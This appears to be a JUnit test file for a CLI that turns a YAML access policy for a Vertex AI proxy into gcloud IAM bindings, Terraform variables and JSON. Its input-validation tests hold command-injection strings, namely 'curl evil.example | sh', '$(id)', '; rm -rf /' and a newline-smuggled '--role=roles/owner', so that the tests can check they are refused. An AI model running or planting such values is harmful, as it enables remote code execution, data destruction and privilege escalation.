package dev.vertexproxy.proxy.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.File;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code vertex-proxy policy iam} through the real command line ({@link Main#run}), with the bundled catalog. */
class PolicyIamCommandTest {
  private static final String PROXY = "vertex-proxy@acme-ops.iam.gserviceaccount.com";

  /** Three allow rules over two accounts (one shared, listed out of order) and a deny rule, which names none. */
  private static final String POLICY = """
      version: 1
      rules:
        - name: ci-gemini
          effect: allow
          identity:
            issuer: gitlab
            claims: { project_path: acme/ml/forecasting }
          methods: [publishers.models.generateContent, publishers.models.streamGenerateContent]
          resources: { projects: [acme-ml-prod], locations: [us-central1] }
          service_account: gemini-caller@acme-ml-prod.iam.gserviceaccount.com
        - name: ci-trains
          effect: allow
          identity:
            issuer: gitlab
            claims: { project_path: acme/ml/forecasting }
          methods: [customJobs.create]
          resources: { projects: [acme-ml-prod] }
          service_account: trainer@acme-ml-prod.iam.gserviceaccount.com
        - name: no-forks
          effect: deny
          identity:
            issuer: gitlab
            claims: { project_path: acme/forks/* }
          methods: ["*"]
        - name: docs-bot-gemini
          effect: allow
          identity:
            issuer: gitlab
            claims: { project_path: acme/docs/bot }
          methods: [publishers.models.countTokens]
          resources: { projects: [acme-ml-prod] }
          service_account: gemini-caller@acme-ml-prod.iam.gserviceaccount.com
      """;

  @TempDir
  Path dir;
  final StringWriter out = new StringWriter();
  final StringWriter err = new StringWriter();

  private int run(String... args) {
    out.getBuffer().setLength(0);
    err.getBuffer().setLength(0);
    return Main.run(new PrintWriter(out, true), new PrintWriter(err, true), args);
  }

  private Path policy(String text) throws Exception {
    return Files.writeString(dir.resolve("policy.yaml"), text);
  }

  @Test
  void printsOneGcloudBindingPerServiceAccountSortedWithTheRulesThatUseIt() throws Exception {
    Path file = policy(POLICY);
    assertThat(run("policy", "iam", file.toString(), "--proxy-service-account", PROXY)).isZero();
    String text = out.toString();
    assertThat(text).startsWith("# The IAM bindings " + file + " (sha256:").contains(
        ") needs: 2 service accounts, each letting " + PROXY + " mint its tokens.\n"
            + "\n"
            + "# rules: ci-gemini, docs-bot-gemini\n"
            + "gcloud iam service-accounts add-iam-policy-binding gemini-caller@acme-ml-prod.iam.gserviceaccount.com \\\n"
            + "  --project=acme-ml-prod \\\n"
            + "  --member=serviceAccount:" + PROXY + " \\\n"
            + "  --role=roles/iam.serviceAccountTokenCreator\n"
            + "\n"
            + "# rules: ci-trains\n"
            + "gcloud iam service-accounts add-iam-policy-binding trainer@acme-ml-prod.iam.gserviceaccount.com \\\n"
            + "  --project=acme-ml-prod \\\n"
            + "  --member=serviceAccount:" + PROXY + " \\\n"
            + "  --role=roles/iam.serviceAccountTokenCreator\n");
    assertThat(text).doesNotContain("no-forks");
    assertThat(err.toString()).isEmpty();

    // Deterministic: the same policy with its rules reordered prints the same bindings.
    List<String> first = bindingLines(text);
    String reordered = POLICY.substring(0, POLICY.indexOf("  - name: ci-gemini"))
        + POLICY.substring(POLICY.indexOf("  - name: docs-bot-gemini"))
        + POLICY.substring(POLICY.indexOf("  - name: ci-gemini"), POLICY.indexOf("  - name: docs-bot-gemini"));
    assertThat(run("policy", "iam", policy(reordered).toString(), "--proxy-service-account", PROXY)).isZero();
    assertThat(bindingLines(out.toString())).isEqualTo(first.stream()
        .map(l -> l.equals("# rules: ci-gemini, docs-bot-gemini") ? "# rules: docs-bot-gemini, ci-gemini" : l).toList());
  }

  private static List<String> bindingLines(String text) {
    return text.lines().skip(1).toList();
  }

  @Test
  void tfvarsIsTheTerraformVariableLaidOutAsTerraformFmtWould() throws Exception {
    Path file = policy(POLICY);
    assertThat(run("policy", "iam", file.toString(), "--format", "tfvars")).isZero();
    assertThat(out.toString()).endsWith("rule_service_accounts = {\n"
        + "  \"gemini-caller@acme-ml-prod.iam.gserviceaccount.com\" = { rules = [\"ci-gemini\", \"docs-bot-gemini\"] }\n"
        + "  \"trainer@acme-ml-prod.iam.gserviceaccount.com\"       = { rules = [\"ci-trains\"] }\n"
        + "}\n");
    Path tfvars = Files.writeString(dir.resolve("rules.auto.tfvars"), out.toString());
    File terraform = new File("/usr/local/bin/terraform");
    if (terraform.canExecute()) { // where terraform is installed, it has the last word on the layout
      Process p = new ProcessBuilder(terraform.getPath(), "fmt", "-check", "-diff", tfvars.toString())
          .redirectErrorStream(true).start();
      String said = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
      assertThat(p.exitValue()).as(said).isZero();
    }
  }

  @Test
  void jsonCarriesTheSameAccountsWithTheirProjects() throws Exception {
    policy(POLICY);
    assertThat(run("policy", "iam", dir.resolve("policy.yaml").toString(), "--format", "json",
        "--proxy-service-account", PROXY)).isZero();
    JsonNode doc = new ObjectMapper().readTree(out.toString());
    assertThat(doc.get("proxy_service_account").asText()).isEqualTo(PROXY);
    assertThat(doc.get("role").asText()).isEqualTo("roles/iam.serviceAccountTokenCreator");
    assertThat(doc.get("policy_version").asText()).startsWith("sha256:");
    JsonNode accounts = doc.get("service_accounts");
    assertThat(accounts).hasSize(2);
    assertThat(accounts.get(0).get("email").asText()).isEqualTo("gemini-caller@acme-ml-prod.iam.gserviceaccount.com");
    assertThat(accounts.get(0).get("project").asText()).isEqualTo("acme-ml-prod");
    assertThat(accounts.get(0).get("rules").toString()).isEqualTo("[\"ci-gemini\",\"docs-bot-gemini\"]");
    assertThat(accounts.get(1).get("rules").toString()).isEqualTo("[\"ci-trains\"]");
  }

  @Test
  void computeAndDomainScopedAccountsGetTheProjectGcloudExpects() throws Exception {
    Path file = policy(POLICY
        .replace("trainer@acme-ml-prod.iam.gserviceaccount.com", "123456789012-compute@developer.gserviceaccount.com")
        .replace("gemini-caller@acme-ml-prod.iam", "gemini@ml.acme.example.iam"));
    assertThat(run("policy", "iam", file.toString(), "--proxy-service-account", PROXY)).isZero();
    assertThat(out.toString())
        .contains("add-iam-policy-binding 123456789012-compute@developer.gserviceaccount.com \\\n  --project=123456789012 \\")
        .contains("add-iam-policy-binding gemini@ml.acme.example.iam.gserviceaccount.com \\\n  --project=acme.example:ml \\");
  }

  @Test
  void rulesActingAsTheProxyItselfOrADefaultComputeAccountAreWarnedAbout() throws Exception {
    Path file = policy(POLICY
        .replace("trainer@acme-ml-prod.iam.gserviceaccount.com", "123456789012-compute@developer.gserviceaccount.com")
        .replace("gemini-caller@acme-ml-prod.iam.gserviceaccount.com", PROXY));
    assertThat(run("policy", "iam", file.toString(), "--proxy-service-account", PROXY)).isZero();
    assertThat(err.toString()).isEqualTo(
        "warning: rule ci-trains acts as 123456789012-compute@developer.gserviceaccount.com, a project's default"
            + " compute account, which usually holds roles/editor; create a service account for it"
            + " (docs/google-setup.md, step 3)\n"
            + "warning: rules ci-gemini, docs-bot-gemini act as the proxy's own service account; create a service"
            + " account for them (docs/google-setup.md, step 3)\n");
    assertThat(out.toString()).contains("add-iam-policy-binding " + PROXY + " \\");
  }

  @Test
  void aPolicyWithNoAllowRulesSaysSoAndGrantsNothing() throws Exception {
    Path file = policy(POLICY.substring(0, POLICY.indexOf("  - name: ci-gemini"))
        + POLICY.substring(POLICY.indexOf("  - name: no-forks"), POLICY.indexOf("  - name: docs-bot-gemini")));
    assertThat(run("policy", "iam", file.toString(), "--proxy-service-account", PROXY)).isZero();
    assertThat(err.toString()).isEqualTo(file + ": no allow rules, so the proxy acts as no service account and needs"
        + " no binding\n");
    assertThat(out.toString()).contains("needs: 0 service accounts").doesNotContain("gcloud iam");
    assertThat(run("policy", "iam", file.toString(), "--format", "tfvars")).isZero();
    assertThat(out.toString()).endsWith("\nrule_service_accounts = {}\n");
  }

  @Test
  void aProxyServiceAccountThatIsNotAnEmailIsRefusedBeforeAnythingIsPrinted() throws Exception {
    Path file = policy(POLICY);
    List<String> hostile = new ArrayList<>(List.of(
        "vertex-proxy@acme-ops.iam.gserviceaccount.com; curl evil.example | sh",
        "vertex-proxy@acme-ops.iam.gserviceaccount.com\n--role=roles/owner",
        "$(id)@acme-ops.iam.gserviceaccount.com",
        "user:alice@example.com",
        "Vertex-Proxy@acme-ops.iam.gserviceaccount.com",
        ""));
    for (String bad : hostile) {
      assertThat(run("policy", "iam", file.toString(), "--proxy-service-account", bad)).as(bad).isEqualTo(2);
      assertThat(out.toString()).as(bad).isEmpty();
      assertThat(err.toString()).as(bad).contains("expected a service account email");
    }
    assertThat(run("policy", "iam", file.toString())).isEqualTo(2);
    assertThat(err.toString()).contains("--proxy-service-account EMAIL is required for --format gcloud");
    assertThat(run("policy", "iam", file.toString(), "--proxy-service-account", PROXY, "--format", "yaml"))
        .isEqualTo(2);
    assertThat(out.toString()).isEmpty();
  }

  @Test
  void aBadPolicyGetsTheProblemReportPolicyCheckPrintsAndExitTwo() throws Exception {
    Path file = policy(POLICY
        .replace("trainer@acme-ml-prod.iam.gserviceaccount.com", "\"trainer@acme-ml-prod.iam.gserviceaccount.com; rm -rf /\"")
        .replace("customJobs.create", "customJobs.creat"));
    assertThat(run("policy", "check", file.toString())).isEqualTo(1);
    String checkReport = err.toString();
    assertThat(checkReport).contains("is not a service account email", "matches no Vertex method", "2 problems");
    assertThat(run("policy", "iam", file.toString(), "--proxy-service-account", PROXY)).isEqualTo(2);
    assertThat(err.toString()).isEqualTo(checkReport);
    assertThat(out.toString()).isEmpty();
  }

  @Test
  void issuerNamesComeFromProxyYamlAsForPolicyCheck() throws Exception {
    Path file = policy(POLICY);
    Path config = Files.writeString(dir.resolve("proxy.yaml"), """
        listen: { address: 127.0.0.1:8443 }
        identity:
          issuers:
            - { name: humans, issuer: "https://idp.example.com", audiences: [x] }
        policy: { file: policy.yaml }
        audit: { dir: audit }
        """);
    assertThat(run("policy", "iam", file.toString(), "--issuers", config.toString(), "--proxy-service-account", PROXY))
        .isEqualTo(2);
    assertThat(err.toString()).contains("invalid policy:", "\"gitlab\" is not a configured issuer (configured: humans)");
    assertThat(out.toString()).isEmpty();
    Files.writeString(config, Files.readString(config).replace("name: humans", "name: gitlab"));
    assertThat(run("policy", "iam", file.toString(), "--issuers", config.toString(), "--proxy-service-account", PROXY))
        .isZero();
    assertThat(out.toString()).contains("needs: 2 service accounts");
  }
}
